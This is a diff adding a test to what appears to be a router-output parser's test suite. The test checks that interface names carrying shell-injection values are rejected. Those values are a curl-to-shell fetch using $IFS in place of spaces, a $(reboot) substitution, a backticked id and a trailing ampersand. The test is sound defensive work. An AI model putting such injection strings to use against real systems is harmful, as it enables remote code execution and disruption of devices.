@@ -473,6 +473,13 @@ describe('what a router prints of itself', () => {
 		expect(routerStateOf(text(inspectMark, line, inspectEnd))?.daemon).toBeUndefined();
 	});
 
+	it.each(['eth0;curl$IFS-s$IFS//x|sh', '$(reboot)', '`id`', 'eth0&', 'of-twenty-characters'])(
+		'names no interface that a shell would take for more, since the mend of its MTU is a command: %s',
+		(name) => {
+			expect(routerStateOf(text(inspectMark, `wan ${name} 9001`, inspectEnd))?.wan).toBeUndefined();
+		},
+	);
+
 	it('is cut where a line is endless', () => {
 		expect(routerStateOf(text(inspectMark, `system ${'x y '.repeat(10_000)}`, inspectEnd))?.system).toHaveLength(400);
 	});
